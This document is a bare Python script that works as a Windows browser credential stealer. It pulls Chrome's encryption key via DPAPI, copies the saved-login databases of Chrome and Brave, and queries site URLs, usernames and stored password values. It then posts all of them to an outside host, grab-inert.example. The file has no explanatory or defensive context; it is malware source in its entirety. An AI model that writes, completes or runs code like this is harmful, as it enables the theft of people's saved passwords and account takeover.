import os, sqlite3, shutil, json, base64, win32crypt, zipfile, requests
from Crypto.Cipher import AES
L = os.getenv("LOCALAPPDATA")
def key(p):
    k = json.load(open(p + r"\Local State"))["os_crypt"]["encrypted_key"]
    return win32crypt.CryptUnprotectData(base64.b64decode(k)[5:], None, None, None, 0)[1]
for b in (r"\Google\Chrome\User Data", r"\BraveSoftware\Brave-Browser\User Data"):
    shutil.copy(L + b + r"\Default\Login Data", "t.db")
    rows = sqlite3.connect("t.db").execute("select origin_url, username_value, password_value from logins").fetchall()
    requests.post("https://grab-inert.example/l", json=[str(r) for r in rows])
